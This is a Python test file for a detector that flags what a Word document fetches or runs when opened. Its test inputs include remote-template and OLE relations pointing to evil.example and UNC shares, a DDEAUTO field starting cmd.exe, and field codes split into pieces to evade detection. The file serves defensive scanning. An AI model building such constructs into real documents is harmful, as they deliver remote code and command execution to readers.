"""What a Word file fetches or runs when it is opened is found, however it is written."""

import io
import zipfile

import pytest

from review.outside import elsewhere, leads_outside

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(**parts: str | bytes) -> bytes:
    """A ZIP file with these parts; in a name "__" stands for "/"."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, text in parts.items():
            made.writestr(name.replace("__", "/").replace("_xml", ".xml").replace("_rels", ".rels"), text)
    return out.getvalue()


def related(kind: str, target: str) -> str:
    """A relation to something outside the file."""
    return (
        '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"<r:Relationship Id='a' TargetMode='External' Target='{target}' Type='{OFFICE}/{kind}'/></r:Relationships>"
    )


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk"])
def test_a_relation_to_another_machine_is_found(kind: str) -> None:
    for target in ("https://evil.example/t.dotm", r"\\evil.example\s\t.dotm", "file://evil.example/t"):
        assert leads_outside(word(word__s_rels=related(kind, target))) == (target,)


def test_no_encoding_hides_a_relation() -> None:
    told = '<?xml version="1.0" encoding="utf-16"?>' + related("image", "https://evil.example/a.png")
    assert leads_outside(word(word__s_rels=told.encode("utf-16"))) == ("https://evil.example/a.png",)


def test_a_link_to_be_clicked_and_a_folder_of_the_writers_own_are_nothing() -> None:
    assert leads_outside(word(word__s_rels=related("hyperlink", "https://news.example/"))) == ()
    assert leads_outside(word(word__s_rels=related("attachedTemplate", "file:///C:\\Users\\x\\月报.dotx"))) == ()


@pytest.mark.parametrize(
    ("target", "away"),
    [
        ("file:///C:/x/Normal.dotm", False), ("C:\\x", False), ("file:///home/x", False), ("file:/home/x", False),
        ("file://C:/x", False), ("Normal.dotm", False), ("../x.png", False), ("http://a", True), ("//s/x", True),
        ("\\\\s\\x", True), ("file://s/x", True), ("file:////s/x", True), ("file:///\\\\s\\x", True),
        ("FILE://s", True), ("file:\\\\s\\x", True), ("%5C%5Cs", True), (" http://a", True), ("mhtml:http://x!y", True),
    ],
)  # fmt: skip
def test_a_target_is_on_another_machine_or_here(target: str, away: bool) -> None:
    assert elsewhere(target) is away


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ('INCLUDEPICTURE "https://evil.example/a.png" \\d', True), ("includetext https://evil.example/a", True),
        ("DDEAUTO c:\\\\windows\\\\cmd.exe", True), ('LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\x"', True),
        ('HYPERLINK "https://news.example/LINK"', False), ('INCLUDEPICTURE "D:\\\\照片\\\\a.png"', False),
        ("PAGE", False),
    ],
)  # fmt: skip
def test_a_field_that_fetches_or_starts_something_is_found_even_in_pieces(code: str, found: bool) -> None:
    middle = len(code) // 2
    pieces = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (code[:middle], code[middle:]))
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    told = f"<w:document {WORD}><w:p>{pieces}{end}</w:p></w:document>"
    assert leads_outside(word(word__document_xml=told)) == ((code.strip(),) if found else ())
    simple = f"<w:document {WORD}><w:p><w:fldSimple w:instr='{code}'/></w:p></w:document>"
    assert bool(leads_outside(word(word__document_xml=simple))) is found


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "word/afchunk.mht"])
def test_a_program_in_the_file_is_named(name: str) -> None:
    assert leads_outside(word(**{name: "<a/>"})) == (name,)


def test_what_is_no_word_file_is_for_its_reader_to_refuse() -> None:
    assert leads_outside(b"PK\x03\x04") == leads_outside(b"") == leads_outside(word(word__a_xml="<a>&x;</a>")) == ()
